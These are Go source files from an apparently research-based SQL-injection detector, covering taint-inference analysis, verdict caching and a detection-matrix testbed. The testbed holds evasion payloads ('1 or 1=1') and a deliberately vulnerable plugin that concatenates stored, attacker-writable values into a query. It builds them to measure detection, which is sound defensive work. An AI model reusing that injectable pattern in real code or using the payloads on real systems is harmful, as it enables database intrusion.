		t.Fatalf("shard count %d is not a power of two", n)
	}
}

func TestShardedLRUBasics(t *testing.T) {
	// Per-shard capacity (32) is at least the number of inserted keys, so
	// no eviction can occur no matter how the seeded hash distributes the
	// keys across shards — the assertions below are seed-independent.
	s := newShardedLRU(256, 8)
	if len(s.shards) != 8 {
		t.Fatalf("shards = %d", len(s.shards))
	}
	for i := 0; i < 32; i++ {
		s.put(sqltoken.MySQL, fmt.Sprintf("key-%d", i), true)
	}
	if s.len() != 32 {
		t.Errorf("len = %d, want 32", s.len())
	}
	for i := 0; i < 32; i++ {
		if safe, ok := s.get(sqltoken.MySQL, fmt.Sprintf("key-%d", i)); !ok || !safe {
			t.Errorf("key-%d missing", i)
		}
	}
	if _, ok := s.get(sqltoken.MySQL, "absent"); ok {
		t.Error("absent key found")
	}
	var hits, misses uint64
	for _, st := range s.stats() {
		hits += st.Hits
		misses += st.Misses
	}
	if hits != 32 || misses != 1 {
		t.Errorf("hits=%d misses=%d, want 32/1", hits, misses)
	}
}

func TestShardedLRUDistributesKeys(t *testing.T) {
	s := newShardedLRU(4096, 8)
	for i := 0; i < 4000; i++ {
		s.put(sqltoken.MySQL, fmt.Sprintf("SELECT * FROM t WHERE id=%d", i), true)
	}
	occupied := 0
	for _, st := range s.stats() {
		if st.Entries > 0 {
			occupied++
		}
	}
	if occupied < 7 {
		t.Errorf("only %d/8 shards occupied; hash is not spreading keys", occupied)
	}
}

func TestShardedLRUCapacitySplit(t *testing.T) {
	// Total capacity is split across shards; inserting far more keys than
	// capacity must keep the total bounded by capacity (+rounding).
	s := newShardedLRU(64, 8)
	for i := 0; i < 10000; i++ {
		s.put(sqltoken.MySQL, fmt.Sprintf("key-%d", i), true)
	}
	if got := s.len(); got > 64 {
		t.Errorf("len = %d exceeds total capacity 64", got)
	}
}

func TestShardedLRUEvictionPerShard(t *testing.T) {
	// One-entry shards: any second key hashing to the same shard evicts
	// the first.
	s := newShardedLRU(8, 8)
	s.put(sqltoken.MySQL, "a", true)
	s.put(sqltoken.MySQL, "b", true)
	if s.len() > 8 {
		t.Errorf("len = %d", s.len())
	}
}

func TestShardedLRUConcurrentChurn(t *testing.T) {
	// Tiny capacity forces constant eviction while goroutines hammer
	// overlapping key ranges; run under -race this exercises promote and
	// evict under contention.
	s := newShardedLRU(32, 8)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				key := fmt.Sprintf("key-%d", (seed*13+i)%100)
				d := sqltoken.Dialect(seed % 3)
				if i%3 == 0 {
					s.put(d, key, true)
				} else {
					s.get(d, key)
				}
			}
		}(g)
	}
	wg.Wait()
	if s.len() > 32 {
		t.Errorf("len = %d exceeds capacity", s.len())
	}
}

func TestCachedShardStats(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheQueryAndStructure, 256)
	if c.NumShards() < minShards {
		t.Fatalf("NumShards = %d", c.NumShards())
	}
	for i := 0; i < 50; i++ {
		q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", i%10)
		c.Analyze(q, nil)
	}
	qs, ss := c.ShardStats()
	if len(qs) != c.NumShards() || len(ss) != c.NumShards() {
		t.Fatalf("shard stats lengths %d/%d, want %d", len(qs), len(ss), c.NumShards())
	}
	var hits, entries uint64
	for _, st := range qs {
		hits += st.Hits
		entries += st.Entries
	}
	if hits == 0 {
		t.Error("no query-shard hits recorded")
	}
	if entries == 0 {
		t.Error("no query-shard entries recorded")
	}
	// Shard stats and aggregate stats must agree on hit totals.
	if agg := c.Stats(); agg.QueryHits == 0 || hits < agg.QueryHits {
		t.Errorf("aggregate hits %d vs shard hits %d", agg.QueryHits, hits)
	}
}

func TestCachedNoCacheShardStats(t *testing.T) {
	a := New(appFragments())
	c := NewCached(a, CacheNone, 16)
	if c.NumShards() != 0 {
		t.Errorf("NumShards = %d for no-cache", c.NumShards())
	}
	qs, ss := c.ShardStats()
	if qs != nil || ss != nil {
		t.Error("no-cache mode must report nil shard stats")
	}
}

func TestHashKeySpread(t *testing.T) {
	// Sanity: distinct realistic keys rarely collide in the low bits.
	seen := make(map[uint64]int)
	for i := 0; i < 1024; i++ {
		seen[hashKey(lruKey{d: sqltoken.MySQL, key: fmt.Sprintf("SELECT %d", i)})&7]++
	}
	for b, n := range seen {
		if n == 0 {
			t.Errorf("bucket %d empty", b)
		}
	}
}

// TestShardedLRUDialectNamespaces pins the cross-dialect isolation
// property: the same key string stored under one dialect is invisible
// under another, so one process hosting guards for several database
// backends can never serve a cross-dialect cached verdict.
func TestShardedLRUDialectNamespaces(t *testing.T) {
	s := newShardedLRU(256, 8)
	key := "SELECT * FROM t WHERE a = $q$x$q$"
	s.put(sqltoken.MySQL, key, true)
	if _, ok := s.get(sqltoken.Postgres, key); ok {
		t.Fatal("Postgres lookup served a MySQL-cached verdict")
	}
	if _, ok := s.get(sqltoken.SQLite, key); ok {
		t.Fatal("SQLite lookup served a MySQL-cached verdict")
	}
	if safe, ok := s.get(sqltoken.MySQL, key); !ok || !safe {
		t.Fatal("MySQL entry lost")
	}
	// Same string under all three dialects: three independent entries.
	s.put(sqltoken.Postgres, key, true)
	s.put(sqltoken.SQLite, key, true)
	if got := s.len(); got != 3 {
		t.Fatalf("len = %d, want 3 independent entries", got)
	}
}

// TestCacheHitZeroAlloc pins the composite-key design goal: folding the
// dialect into the cache key must not add allocations to the query-cache
// hit path (a string-concatenation key would allocate on every probe).
func TestCacheHitZeroAlloc(t *testing.T) {
	c := NewCached(New(appFragments(), WithDialect(sqltoken.Postgres)), CacheQuery, 64)
	q := "SELECT * FROM records WHERE ID=1 LIMIT 5"
	c.Analyze(q, nil) // warm
	if n := testing.AllocsPerRun(200, func() {
		res, toks := c.AnalyzeLazy(q, nil)
		if res.Attack || toks != nil {
			t.Fatal("expected cached safe verdict without lexing")
		}
	}); n != 0 {
		t.Errorf("query-cache hit allocates %.1f times per run, want 0", n)
	}
}

// TestCachedDialectIsolation drives the isolation end to end through
// Cached: a Postgres guard must not reuse a MySQL guard's verdict for the
// same bytes even when both wrap analyzers over the same fragments.
func TestCachedDialectIsolation(t *testing.T) {
	frags := appFragments()
	my := NewCached(New(frags), CacheQueryAndStructure, 64)
	pg := NewCached(New(frags, WithDialect(sqltoken.Postgres)), CacheQueryAndStructure, 64)

	q := "SELECT * FROM records WHERE ID=1 LIMIT 5"
	my.Analyze(q, nil)
	my.Analyze(q, nil) // warm: second call is a query-cache hit
	if st := my.Stats(); st.QueryHits == 0 {
		t.Fatalf("MySQL cache did not warm: %+v", st)
	}
	// The Postgres wrapper has its own cache instance; this test guards the
	// key discipline too: its miss path must key by (postgres, query).
	pg.Analyze(q, nil)
	if st := pg.Stats(); st.Misses == 0 {
		t.Fatalf("Postgres analyze did not record a miss: %+v", st)
	}
}
