// Package pti implements positive taint inference: inferring which parts
// of a SQL query are trusted because they originate from string fragments
// extracted from the application itself, per Section III-B of the Joza
// paper.
//
// A query is PTI-safe when every critical token is fully contained within a
// single occurrence of a single trusted fragment. SQL comments are one
// critical token, so an evasion block smuggled inside a comment must appear
// verbatim in the program source to be trusted. Fragments are never
// combined: the critical token OR cannot be assembled from fragments "O"
// and "R".
//
// Two of the paper's optimizations are implemented and individually
// switchable for ablation:
//
//   - parse-first: critical tokens are located before matching, and only
//     their coverage is verified (instead of marking the whole query);
//   - MRU: fragments that recently covered tokens are tried first with a
//     targeted window check, exploiting the small SQL working set of web
//     applications.
package pti

import (
	"context"
	"fmt"

	"joza/internal/core"
	"joza/internal/fragments"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// Analyzer runs positive taint inference over a fixed fragment set.
// Construct with New; an Analyzer is safe for concurrent use.
type Analyzer struct {
	set        *fragments.Set
	matcher    fragments.Matcher
	mru        *fragments.MRU
	parseFirst bool
	// critical decides which tokens must be fragment-covered; the default
	// is the paper's pragmatic policy (identifiers allowed).
	critical func(sqltoken.Token) bool
	// maxQueryBytes caps the query size AnalyzeCtx accepts; maxTokens caps
	// the lexed token count it will scan. Zero disables either cap; both
	// fail with core.ErrOverBudget on the context-aware path.
	maxQueryBytes int
	maxTokens     int
	// dialect governs internal lexing when callers pass nil tokens. The
	// zero value is sqltoken.MySQL, preserving historical behavior.
	dialect sqltoken.Dialect
}

// Option configures an Analyzer.
type Option func(*Analyzer)

// WithNaiveMatcher makes the analyzer use the unoptimized per-fragment
// scan; the default is the Aho–Corasick matcher. Used by the Figure 7
// "unoptimized PTI" baseline.
func WithNaiveMatcher() Option {
	return func(a *Analyzer) { a.matcher = fragments.NewNaiveMatcher(a.set) }
}

// WithoutMRU disables the most-recently-used fragment cache.
func WithoutMRU() Option {
	return func(a *Analyzer) { a.mru = nil }
}

// WithMRUCapacity sets the MRU capacity (default 64).
func WithMRUCapacity(n int) Option {
	return func(a *Analyzer) { a.mru = fragments.NewMRU(n) }
}

// WithoutParseFirst disables the parse-first optimization: the analyzer
// computes all fragment occurrences and full positive markings before
// checking critical tokens.
func WithoutParseFirst() Option {
	return func(a *Analyzer) { a.parseFirst = false }
}

// WithMaxQueryBytes caps the query size the analyzer accepts: AnalyzeCtx
// fails a longer query with an error wrapping core.ErrOverBudget before
// lexing it. Zero (the default) disables the cap. Budgets apply on the
// context-aware path only — the legacy error-free entry points cannot
// report them.
func WithMaxQueryBytes(n int) Option {
	return func(a *Analyzer) { a.maxQueryBytes = n }
}

// WithMaxTokens caps the lexed token count AnalyzeCtx will cover-check; a
// longer stream fails with an error wrapping core.ErrOverBudget. This
// bounds the cover scan on machine-generated token floods that stay under
// the byte cap. Zero (the default) disables the cap.
func WithMaxTokens(n int) Option {
	return func(a *Analyzer) { a.maxTokens = n }
}

// WithDialect sets the SQL dialect the analyzer lexes under when it has to
// lex internally (nil toks). Callers that pass pre-lexed tokens must have
// lexed them under the same dialect. The default is sqltoken.MySQL.
func WithDialect(d sqltoken.Dialect) Option {
	return func(a *Analyzer) { a.dialect = d }
}

// WithStrictPolicy enforces the strict (Ray–Ligatti-style) policy of
// Section II: identifiers (field and table names) must also originate from
// trusted fragments.
func WithStrictPolicy() Option {
	return func(a *Analyzer) { a.critical = sqltoken.Token.CriticalStrict }
}

// New returns an Analyzer over set with all optimizations enabled.
func New(set *fragments.Set, opts ...Option) *Analyzer {
	a := &Analyzer{
		set:        set,
		mru:        fragments.NewMRU(64),
		parseFirst: true,
		critical:   sqltoken.Token.Critical,
	}
	for _, o := range opts {
		o(a)
	}
	if a.matcher == nil {
		a.matcher = fragments.NewACMatcher(set)
	}
	return a
}

// Set returns the fragment set the analyzer was built over.
func (a *Analyzer) Set() *fragments.Set { return a.set }

// Dialect returns the SQL dialect the analyzer lexes under.
func (a *Analyzer) Dialect() sqltoken.Dialect { return a.dialect }

// Analyze decides whether query is PTI-safe. toks must be the lex of query;
// pass nil to lex internally.
func (a *Analyzer) Analyze(query string, toks []sqltoken.Token) core.Result {
	return a.AnalyzeTraced(query, toks, nil)
}

// AnalyzeTraced is Analyze with decision tracing: when span is non-nil it
// records, per critical token, which trusted fragment covered it (and
// where the fragment occurred) or that no fragment did — the evidence
// behind a PTI verdict. A nil span costs one pointer check per token.
func (a *Analyzer) AnalyzeTraced(query string, toks []sqltoken.Token, span *trace.Span) core.Result {
	if toks == nil {
		toks = a.dialect.Lex(query)
	}
	if a.parseFirst {
		return a.analyzeParseFirst(query, toks, span)
	}
	return a.analyzeFullMarking(query, toks, span)
}

// AnalyzeCtx is AnalyzeTraced with cancellation checkpoints before and
// after lexing. The cover scan itself is linear in the query and runs to
// completion; the expensive, checkpointed loop of the hybrid pipeline is
// NTI's approximate matcher. With context.Background() AnalyzeCtx never
// fails and adds no work.
func (a *Analyzer) AnalyzeCtx(ctx context.Context, query string, toks []sqltoken.Token, span *trace.Span) (core.Result, error) {
	cancelable := ctx.Done() != nil
	if cancelable {
		if err := ctx.Err(); err != nil {
			return core.Result{}, err
		}
	}
	if a.maxQueryBytes > 0 && len(query) > a.maxQueryBytes {
		return core.Result{}, fmt.Errorf("pti: query %d bytes exceeds cap %d: %w",
			len(query), a.maxQueryBytes, core.ErrOverBudget)
	}
	if toks == nil {
		toks = a.dialect.Lex(query)
		if cancelable {
			if err := ctx.Err(); err != nil {
				return core.Result{}, err
			}
		}
	}
	if a.maxTokens > 0 && len(toks) > a.maxTokens {
		return core.Result{}, fmt.Errorf("pti: %d tokens exceeds cap %d: %w",
			len(toks), a.maxTokens, core.ErrOverBudget)
	}
	if a.parseFirst {
		return a.analyzeParseFirst(query, toks, span), nil
	}
	return a.analyzeFullMarking(query, toks, span), nil
}

// analyzeParseFirst verifies coverage of each critical token directly,
// trying MRU fragments with a targeted window check before falling back to
// a single full occurrence scan.
func (a *Analyzer) analyzeParseFirst(query string, toks []sqltoken.Token, span *trace.Span) core.Result {
	res := core.Result{Analyzer: core.AnalyzerPTI}
	var occs []fragments.Occurrence
	occsReady := false
	for _, t := range toks {
		if !a.critical(t) {
			continue
		}
		covered := false
		if a.mru != nil {
			for _, id := range a.mru.IDs() {
				if at, ok := a.set.CoverAt(query, id, t.Start, t.End); ok {
					covered = true
					a.mru.Touch(id)
					res.Markings = append(res.Markings, core.Marking{
						Span:   sqltoken.Span{Start: at, End: at + len(a.set.Fragment(id))},
						Source: a.set.Fragment(id),
					})
					if span.Active() {
						span.AddCover(trace.Cover{
							Token: t.Text, TokenStart: t.Start, TokenEnd: t.End,
							FragmentID: id, FragStart: at, FragEnd: at + len(a.set.Fragment(id)),
							MRU: true,
						})
					}
					break
				}
			}
		}
		if !covered {
			if !occsReady {
				occs = a.matcher.FindAll(query)
				occsReady = true
			}
			for _, o := range occs {
				if o.Start <= t.Start && t.End <= o.End {
					covered = true
					if a.mru != nil {
						a.mru.Touch(o.FragmentID)
					}
					res.Markings = append(res.Markings, core.Marking{
						Span:   sqltoken.Span{Start: o.Start, End: o.End},
						Source: a.set.Fragment(o.FragmentID),
					})
					if span.Active() {
						span.AddCover(trace.Cover{
							Token: t.Text, TokenStart: t.Start, TokenEnd: t.End,
							FragmentID: o.FragmentID, FragStart: o.Start, FragEnd: o.End,
						})
					}
					break
				}
			}
		}
		if !covered {
			res.Reasons = append(res.Reasons, core.Reason{
				Token:  t,
				Detail: "critical token not contained in any trusted fragment",
			})
			if span.Active() {
				span.AddUncovered(trace.Uncovered{Token: t.Text, TokenStart: t.Start, TokenEnd: t.End})
			}
		}
	}
	res.Attack = len(res.Reasons) > 0
	return res
}

// analyzeFullMarking computes every fragment occurrence, reports them all
// as positive markings, then checks critical-token containment. This is
// the unoptimized strategy retained for ablation benchmarks.
func (a *Analyzer) analyzeFullMarking(query string, toks []sqltoken.Token, span *trace.Span) core.Result {
	res := core.Result{Analyzer: core.AnalyzerPTI}
	occs := a.matcher.FindAll(query)
	res.Markings = make([]core.Marking, 0, len(occs))
	for _, o := range occs {
		res.Markings = append(res.Markings, core.Marking{
			Span:   sqltoken.Span{Start: o.Start, End: o.End},
			Source: a.set.Fragment(o.FragmentID),
		})
	}
	for _, t := range toks {
		if !a.critical(t) {
			continue
		}
		covered := false
		for _, o := range occs {
			if o.Start <= t.Start && t.End <= o.End {
				covered = true
				if span.Active() {
					span.AddCover(trace.Cover{
						Token: t.Text, TokenStart: t.Start, TokenEnd: t.End,
						FragmentID: o.FragmentID, FragStart: o.Start, FragEnd: o.End,
					})
				}
				break
			}
		}
		if !covered {
			res.Reasons = append(res.Reasons, core.Reason{
				Token:  t,
				Detail: "critical token not contained in any trusted fragment",
			})
			if span.Active() {
				span.AddUncovered(trace.Uncovered{Token: t.Text, TokenStart: t.Start, TokenEnd: t.End})
			}
		}
	}
	res.Attack = len(res.Reasons) > 0
	return res
}

// String describes the analyzer configuration.
func (a *Analyzer) String() string {
	return fmt.Sprintf("pti.Analyzer{fragments=%d, parseFirst=%v, mru=%v}",
		a.set.Len(), a.parseFirst, a.mru != nil)
}
