package pti

import (
	"context"
	"sync"
	"sync/atomic"
	"time"

	"joza/internal/core"
	"joza/internal/sqlparse"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// lru is a minimal thread-safe LRU set of composite (dialect, string) keys
// mapping to a boolean "safe" verdict. Only safe verdicts are stored by
// callers, but the value is kept for generality.
type lru struct {
	mu    sync.Mutex
	cap   int
	items map[lruKey]*lruEntry
	head  *lruEntry // most recent
	tail  *lruEntry // least recent
}

type lruEntry struct {
	key        lruKey
	safe       bool
	prev, next *lruEntry
}

func newLRU(capacity int) *lru {
	if capacity < 1 {
		capacity = 1024
	}
	return &lru{cap: capacity, items: make(map[lruKey]*lruEntry, capacity)}
}

func (c *lru) get(key lruKey) (bool, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	e, ok := c.items[key]
	if !ok {
		return false, false
	}
	c.moveToFront(e)
	return e.safe, true
}

func (c *lru) put(key lruKey, safe bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if e, ok := c.items[key]; ok {
		e.safe = safe
		c.moveToFront(e)
		return
	}
	e := &lruEntry{key: key, safe: safe}
	c.items[key] = e
	c.pushFront(e)
	if len(c.items) > c.cap {
		evict := c.tail
		c.unlink(evict)
		delete(c.items, evict.key)
	}
}

func (c *lru) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.items)
}

func (c *lru) pushFront(e *lruEntry) {
	e.prev = nil
	e.next = c.head
	if c.head != nil {
		c.head.prev = e
	}
	c.head = e
	if c.tail == nil {
		c.tail = e
	}
}

func (c *lru) unlink(e *lruEntry) {
	if e.prev != nil {
		e.prev.next = e.next
	} else {
		c.head = e.next
	}
	if e.next != nil {
		e.next.prev = e.prev
	} else {
		c.tail = e.prev
	}
	e.prev, e.next = nil, nil
}

func (c *lru) moveToFront(e *lruEntry) {
	if c.head == e {
		return
	}
	c.unlink(e)
	c.pushFront(e)
}

// CacheMode selects which PTI caches a Cached analyzer uses, matching the
// configurations of Table V.
type CacheMode int

// Cache modes.
const (
	// CacheNone disables caching: every query is fully analyzed.
	CacheNone CacheMode = iota + 1
	// CacheQuery caches verdicts of exact query strings.
	CacheQuery
	// CacheQueryAndStructure additionally caches verdicts keyed by the
	// query's token skeleton, covering dynamic data values.
	CacheQueryAndStructure
)

// String returns the mode name.
func (m CacheMode) String() string {
	switch m {
	case CacheNone:
		return "no-cache"
	case CacheQuery:
		return "query-cache"
	case CacheQueryAndStructure:
		return "query+structure-cache"
	default:
		return "unknown"
	}
}

// CacheStats counts cache activity; read with the Snapshot method.
type CacheStats struct {
	QueryHits     uint64
	StructureHits uint64
	Misses        uint64
}

// Cached wraps an Analyzer with the PTI query cache and query-structure
// cache described in Sections IV-C and VI-A. Only safe verdicts are cached:
// attacks are rare, must always be fully re-analyzed for reporting, and
// caching them would let a poisoned entry suppress detection details.
//
// Both caches are sharded by key hash (one mutex per shard, GOMAXPROCS
// rounded to a power of two shards) so concurrent Analyze calls on a
// multicore host do not serialize on a single cache lock.
type Cached struct {
	analyzer *Analyzer
	mode     CacheMode
	dialect  sqltoken.Dialect
	queries  *shardedLRU
	structs  *shardedLRU

	queryHits     atomic.Uint64
	structureHits atomic.Uint64
	misses        atomic.Uint64
}

// NewCached wraps analyzer with the given cache mode and per-cache capacity.
func NewCached(analyzer *Analyzer, mode CacheMode, capacity int) *Cached {
	c := &Cached{analyzer: analyzer, mode: mode, dialect: analyzer.Dialect()}
	nShards := defaultShardCount()
	if mode == CacheQuery || mode == CacheQueryAndStructure {
		c.queries = newShardedLRU(capacity, nShards)
	}
	if mode == CacheQueryAndStructure {
		c.structs = newShardedLRU(capacity, nShards)
	}
	return c
}

// Mode returns the configured cache mode.
func (c *Cached) Mode() CacheMode { return c.mode }

// Dialect returns the SQL dialect the wrapped analyzer lexes under; cache
// entries are namespaced by it, and the daemon validates wire-request
// dialects against it.
func (c *Cached) Dialect() sqltoken.Dialect { return c.dialect }

// NumShards returns the shard count of the query cache (0 when caching is
// disabled).
func (c *Cached) NumShards() int {
	if c.queries == nil {
		return 0
	}
	return len(c.queries.shards)
}

// Analyze returns the PTI result for query, consulting the caches first.
// toks may be nil; it is only lexed when a full analysis requires it.
func (c *Cached) Analyze(query string, toks []sqltoken.Token) core.Result {
	res, _ := c.AnalyzeLazy(query, toks)
	return res
}

// AnalyzeLazy is Analyze with lazy lexing: toks may be nil, in which case
// the query is lexed only on a cache miss — a query-cache hit costs one
// sharded map lookup and no lexing at all. The second return value is the
// token stream the analysis used (nil when no lexing happened), so callers
// that also need tokens for NTI reuse this lex instead of running another.
func (c *Cached) AnalyzeLazy(query string, toks []sqltoken.Token) (core.Result, []sqltoken.Token) {
	return c.AnalyzeLazyTraced(query, toks, nil)
}

// AnalyzeLazyTraced is AnalyzeLazy with decision tracing: when span is
// non-nil it records the cache outcome (query-hit, structure-hit, miss),
// the lazy-lex and fragment-cover durations, and the per-token cover
// evidence from the underlying analyzer. A nil span keeps the hot path
// identical to AnalyzeLazy: no clock reads, no allocations.
func (c *Cached) AnalyzeLazyTraced(query string, toks []sqltoken.Token, span *trace.Span) (core.Result, []sqltoken.Token) {
	res, toks, _ := c.AnalyzeLazyCtx(context.Background(), query, toks, span)
	return res, toks
}

// AnalyzeLazyCtx is AnalyzeLazyTraced with cooperative cancellation: an
// already-canceled or expired ctx fails before any cache lookup, and a
// cache miss runs the underlying analysis through its checkpoints. Cache
// hits never fail once past the entry check. With context.Background()
// the checks are free.
func (c *Cached) AnalyzeLazyCtx(ctx context.Context, query string, toks []sqltoken.Token, span *trace.Span) (core.Result, []sqltoken.Token, error) {
	if ctx.Done() != nil {
		if err := ctx.Err(); err != nil {
			return core.Result{}, nil, err
		}
	}
	if c.queries != nil {
		if safe, ok := c.queries.get(c.dialect, query); ok && safe {
			c.queryHits.Add(1)
			span.SetCacheOutcome(trace.CacheQueryHit)
			return core.Result{Analyzer: core.AnalyzerPTI}, toks, nil
		}
	}
	var structKey string
	if c.structs != nil {
		structKey = sqlparse.StructureKeyDialect(c.dialect, query)
		if safe, ok := c.structs.get(c.dialect, structKey); ok && safe {
			c.structureHits.Add(1)
			span.SetCacheOutcome(trace.CacheStructureHit)
			// Promote into the exact-query cache for next time.
			if c.queries != nil {
				c.queries.put(c.dialect, query, true)
			}
			return core.Result{Analyzer: core.AnalyzerPTI}, toks, nil
		}
	}
	c.misses.Add(1)
	if c.queries != nil || c.structs != nil {
		span.SetCacheOutcome(trace.CacheMiss)
	}
	if toks == nil {
		var lexStart time.Time
		if span.Active() {
			lexStart = time.Now()
		}
		toks = c.dialect.Lex(query)
		if span.Active() {
			span.Lex(time.Since(lexStart))
		}
	}
	var coverStart time.Time
	if span.Active() {
		coverStart = time.Now()
	}
	res, err := c.analyzer.AnalyzeCtx(ctx, query, toks, span)
	if err != nil {
		return core.Result{}, nil, err
	}
	if span.Active() {
		span.PTICover(time.Since(coverStart))
	}
	if !res.Attack {
		if c.queries != nil {
			c.queries.put(c.dialect, query, true)
		}
		if c.structs != nil {
			c.structs.put(c.dialect, structKey, true)
		}
	}
	return res, toks, nil
}

// Stats returns a snapshot of cache counters.
func (c *Cached) Stats() CacheStats {
	return CacheStats{
		QueryHits:     c.queryHits.Load(),
		StructureHits: c.structureHits.Load(),
		Misses:        c.misses.Load(),
	}
}

// ShardStats returns per-shard hit/miss/occupancy counters for the query
// and structure caches (nil when the respective cache is disabled).
func (c *Cached) ShardStats() (query, structure []ShardStat) {
	if c.queries != nil {
		query = c.queries.stats()
	}
	if c.structs != nil {
		structure = c.structs.stats()
	}
	return query, structure
}
