package testbed

import (
	"encoding/json"
	"fmt"

	"joza"
	"joza/internal/evasion"
	"joza/internal/webapp"
)

// Detection-matrix case classes. The first four mirror the Table IV
// corpus (benign baselines, original exploits, NTI-evasion mutants and
// Taintless's working PTI-evasion rewrites); the last two are the gap
// classes only the query-skeleton profile stage can close:
//
//   - fragment-rebuilt: a short tautology built entirely from the trusted
//     fragment vocabulary and delivered base64-encoded, so NTI never sees
//     the payload in the query and PTI finds every critical token covered;
//   - second-order: the payload reaches the query from attacker-poisoned
//     storage rather than the request, so NTI has no input to correlate
//     and the vocabulary again covers every token.
const (
	ClassBenign          = "benign"
	ClassOriginal        = "original-exploit"
	ClassNTIMutant       = "nti-mutant"
	ClassPTIMutant       = "pti-mutant"
	ClassFragmentRebuilt = "fragment-rebuilt"
	ClassSecondOrder     = "second-order"
)

// TechniqueCounts holds one count per protection technique: the three
// single analyzers, the paper's NTI+PTI hybrid, and the hybrid extended
// with the profile stage.
type TechniqueCounts struct {
	NTI           int `json:"nti"`
	PTI           int `json:"pti"`
	Profile       int `json:"profile"`
	Hybrid        int `json:"hybrid"`
	HybridProfile int `json:"hybridProfile"`
}

// MatrixRow is one case class: how many cases were evaluated and how many
// each technique blocked. For the benign row the counts are false
// positives and the profile-bearing columns must read zero.
type MatrixRow struct {
	Class    string          `json:"class"`
	Cases    int             `json:"cases"`
	Detected TechniqueCounts `json:"detected"`
}

// DetectionMatrix is the Table-IV-style per-technique detection sweep,
// extended with the profile stage and the two gap attack classes.
type DetectionMatrix struct {
	Rows []MatrixRow `json:"rows"`
	// TotalCases counts every evaluated request across all rows.
	TotalCases int `json:"totalCases"`
	// ProfileSites and ProfileSkeletons size the trained store.
	ProfileSites     int `json:"profileSites"`
	ProfileSkeletons int `json:"profileSkeletons"`

	// Store is the profile store trained on the benign traffic, for
	// callers that want to persist the learning run alongside the sweep.
	Store *joza.ProfileStore `json:"-"`
}

// Row returns the named row, or nil.
func (m *DetectionMatrix) Row(class string) *MatrixRow {
	for i := range m.Rows {
		if m.Rows[i].Class == class {
			return &m.Rows[i]
		}
	}
	return nil
}

// fragmentRebuiltPayload is the gap-class tautology: every token is
// covered by the core dynamic-condition-builder vocabulary (" or ", "=",
// "1") and the adrotate plugin delivers it base64-encoded, so neither
// taint analyzer has anything to hold against it.
const (
	fragmentRebuiltPlugin  = "adrotate"
	fragmentRebuiltPayload = "1 or 1=1"
)

// Second-order gap case: the stored-redirect plugin resolves a redirect
// target from persistent application state (an option an earlier,
// benign-looking request poisoned) and concatenates it into a query. The
// triggering request carries only a harmless marker parameter.
const (
	secondOrderPlugin  = "stored-redirect"
	secondOrderBenign  = "2"
	secondOrderPayload = "1 or 1=1"
)

// storedState models attacker-reachable persistent state: the value is
// written out of band and consumed by a later handler that never sees it
// as request input.
type storedState struct{ value string }

// newSecondOrderPlugin materializes the stored-redirect route over st.
// Its query prefix is the core $q_post fragment, so the guard vocabulary
// needs nothing new.
func newSecondOrderPlugin(st *storedState) *webapp.Plugin {
	return &webapp.Plugin{
		Name: secondOrderPlugin,
		Source: `<?php
/* Plugin Name: stored-redirect */
$target = get_option('redirect_target'); /* attacker-writable elsewhere */
$query = 'SELECT id, title FROM posts WHERE id=' . $target;
$result = mysql_query($query);
`,
		Handle: func(c *webapp.Ctx) (string, error) {
			res, err := c.Query("SELECT id, title FROM posts WHERE id=" + st.value)
			if err != nil {
				return "", err
			}
			return webapp.RenderRows(res), nil
		},
	}
}

// benignTrainingValues returns the benign request values for a spec: the
// known-good baseline plus fixed ID drift for numeric endpoints, so the
// learned profiles see the same parameter variation the false-positive
// sweep replays.
func benignTrainingValues(s *Spec) []string {
	if s.Quoted || s.Decode == DecodeBase64 {
		return []string{s.Benign}
	}
	return []string{s.Benign, "0", "7", "23", "42", "59"}
}

// TrainProfiles runs the learning pass: benign traffic for every plugin
// (and the second-order route) through a full hybrid guard in learning
// mode, returning the frozen store. A blocked training request is an
// error — learning must happen on clean traffic.
func (l *Lab) TrainProfiles() (*joza.ProfileStore, error) {
	st := &storedState{value: secondOrderBenign}
	store, _, err := l.trainProfiles(st)
	return store, err
}

func (l *Lab) trainProfiles(st *storedState) (*joza.ProfileStore, *webapp.Plugin, error) {
	rec := joza.NewProfileRecorder()
	gLearn, err := joza.New(joza.WithFragmentSet(l.Fragments), joza.WithProfileLearning(rec))
	if err != nil {
		return nil, nil, fmt.Errorf("build learning guard: %w", err)
	}
	soPlugin := newSecondOrderPlugin(st)
	app := l.buildApp(webapp.WithGuard(gLearn))
	app.Install(soPlugin)
	for _, s := range l.Specs {
		for _, v := range benignTrainingValues(s) {
			page, err := app.Handle(s.Name, l.Request(s, v))
			if err != nil {
				return nil, nil, fmt.Errorf("train %s: %w", s.Name, err)
			}
			if page.Blocked {
				return nil, nil, fmt.Errorf("train %s: benign request blocked", s.Name)
			}
		}
	}
	page, err := app.Handle(secondOrderPlugin, &webapp.Request{Get: map[string]string{"go": "1"}})
	if err != nil {
		return nil, nil, fmt.Errorf("train %s: %w", secondOrderPlugin, err)
	}
	if page.Blocked {
		return nil, nil, fmt.Errorf("train %s: benign request blocked", secondOrderPlugin)
	}
	return rec.Store(), soPlugin, nil
}

// matrixApps holds the five technique configurations plus the
// unprotected oracle, all sharing the lab database and the second-order
// plugin instance.
type matrixApps struct {
	unprotected   *webapp.App
	nti           *webapp.App
	pti           *webapp.App
	profile       *webapp.App
	hybrid        *webapp.App
	hybridProfile *webapp.App
}

func (l *Lab) buildMatrixApps(store *joza.ProfileStore, soPlugin *webapp.Plugin) (*matrixApps, error) {
	profileG, err := joza.New(joza.WithoutNTI(), joza.WithoutPTI(), joza.WithProfileStore(store))
	if err != nil {
		return nil, fmt.Errorf("build profile-only guard: %w", err)
	}
	hybridProfileG, err := joza.New(joza.WithFragmentSet(l.Fragments), joza.WithProfileStore(store))
	if err != nil {
		return nil, fmt.Errorf("build hybrid+profile guard: %w", err)
	}
	ntiG, err := joza.New(joza.WithoutPTI())
	if err != nil {
		return nil, err
	}
	ptiG, err := joza.New(joza.WithFragmentSet(l.Fragments), joza.WithoutNTI())
	if err != nil {
		return nil, err
	}
	hybridG, err := joza.New(joza.WithFragmentSet(l.Fragments))
	if err != nil {
